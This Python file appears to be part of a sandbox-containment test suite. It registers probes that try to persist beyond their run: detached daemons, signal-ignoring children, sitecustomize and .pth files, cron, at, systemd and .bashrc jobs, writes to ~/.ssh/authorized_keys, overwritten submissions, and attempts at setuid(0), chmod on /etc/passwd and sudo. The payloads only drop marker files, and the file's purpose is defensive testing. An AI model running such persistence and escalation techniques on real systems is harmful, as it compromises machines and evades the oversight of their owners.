"""Attacks that leave something behind: processes, files, shared memory, jobs."""

from attacks.making import beside, early

FAMILY = "outlives its run"
SCRIBBLE = """
import os, time
def scribble(seconds=0.0):
    time.sleep(seconds)
    folders = [".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.path.expanduser("~"), os.environ.get("BREAKTHROUGH_ARTIFACTS", "."), os.environ.get("XDG_CACHE_HOME", "."),
               "..", "../..", "/work", "/work/main", "/usr/lib/python3", "/etc", *__import__("sys").path]
    for folder in folders:
        for name in ("attack_was_here", "sitecustomize.py", "usercustomize.py", "attack_was_here.pth"):
            path = os.path.join(folder, name)
            if not os.path.exists(path):
                try:
                    with open(path, "w") as file:
                        file.write("import os; os.environ['attack_was_here'] = '1'\\n")
                except OSError:
                    pass
def daemon(seconds=5.0):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for round in range(60):
                scribble(seconds)
        os._exit(0)
"""

early("files_in_every_folder_that_can_be_written", FAMILY, SCRIBBLE + "scribble()", endangers=True)
early("a_daemon_that_scribbles_later", FAMILY, SCRIBBLE + "daemon()", endangers=True)
beside("a_daemon_that_begins_in_a_call", FAMILY, "daemon(1.0)\nreturn None", before=SCRIBBLE)
early("a_child_that_ignores_every_signal", FAMILY, SCRIBBLE + """
import signal
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for round in range(60):
        scribble(2.0)
    os._exit(0)
""", endangers=True)
early("a_shell_in_the_background", FAMILY, """
    import subprocess
    subprocess.Popen("nohup setsid sh -c 'for i in $(seq 60); do sleep 2; touch attack_was_here /tmp/attack_was_here ~/attack_was_here; done' >/dev/null 2>&1 &", shell=True, start_new_session=True)
""", endangers=True)
early("jobs_for_later", FAMILY, """
    import subprocess, os
    for command in ("(crontab -l; echo '* * * * * touch /tmp/attack_was_here') | crontab -", "echo 'touch /tmp/attack_was_here' | at now + 1 minute",
                    "systemd-run --user touch /tmp/attack_was_here", "echo 'touch /tmp/attack_was_here' >> ~/.bashrc", "echo 'touch /tmp/attack_was_here' >> ~/.profile"):
        subprocess.run(command, shell=True, capture_output=True, timeout=20)
""", endangers=True)
early("work_left_for_the_end", FAMILY, SCRIBBLE + """
import atexit, threading, weakref
atexit.register(scribble)
threading.Thread(target=lambda: (threading.main_thread().join(), scribble(3.0))).start()
class Last:
    def __del__(self):
        scribble()
last = Last()
weakref.finalize(check, scribble)
""", endangers=True)
early("shared_memory_left_behind", FAMILY, """
    from multiprocessing import shared_memory, resource_tracker
    import ctypes
    try:
        block = shared_memory.SharedMemory(name="attack_was_here", create=True, size=1 << 20)
        resource_tracker.unregister(block._name, "shared_memory")
    except OSError as error:
        print(error)
    libc = ctypes.CDLL(None)
    print(libc.shmget(4711, 4096, 0o1666), libc.semget(4711, 1, 0o1666), libc.msgget(4711, 0o1666))
""", endangers=True)
early("settings_for_the_next_kernel", FAMILY, """
    import os, pathlib
    text = {"torch": "raise SystemExit", "matplotlib": "backend: module://attack_was_here"}
    for path in ("~/.config/matplotlib/matplotlibrc", "~/.ipython/profile_default/startup/attack_was_here.py", "~/.jupyter/jupyter_config.py", "~/.cache/attack_was_here",
                 "~/.local/lib/python3.11/site-packages/attack_was_here.pth", "~/.pythonrc", "~/.gitconfig", "~/.ssh/authorized_keys", "/tmp/ray/attack_was_here"):
        path = pathlib.Path(path).expanduser()
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            with path.open("a") as file:
                file.write("# attack_was_here\\n")
        except OSError as error:
            print(error)
""", endangers=True)
early("its_own_submission_rewritten", FAMILY, """
    import glob, json, os
    for path in [*glob.glob("*.ipynb"), *glob.glob("../*/*.ipynb"), *glob.glob("/*/*.ipynb"), *glob.glob("/submission/*")]:
        try:
            os.chmod(path, 0o666)
            with open(path, "w") as file:
                json.dump({"cells": [], "metadata": {"attack_was_here": 1}, "nbformat": 4, "nbformat_minor": 5}, file)
        except OSError as error:
            print(error)
    for folder in (".", "..", "/submission"):
        try:
            os.rename(folder, folder + "_attack_was_here")
        except OSError as error:
            print(error)
""", endangers=True)
early("rights_and_limits_raised", FAMILY, """
    import ctypes, os, resource, subprocess
    for which in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE):
        try:
            resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            print("raised", which)
        except (OSError, ValueError) as error:
            print(error)
    for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.nice(-20), lambda: os.chmod("/etc/passwd", 0o666), lambda: os.mknod("attack_was_here_device", 0o60666, os.makedev(8, 0)),
                 lambda: os.unshare(0x10000000), lambda: subprocess.run(["sudo", "-n", "id"], check=True), lambda: subprocess.run(["mount", "-t", "tmpfs", "x", "/mnt"], check=True),
                 lambda: subprocess.run(["bwrap", "--bind", "/", "/", "id"], check=True), lambda: ctypes.CDLL(None).prctl(4, 1), lambda: os.sched_setaffinity(0, range(256))):
        try:
            print("done", call())
        except Exception as error:
            print(type(error).__name__, error)
""", endangers=True)
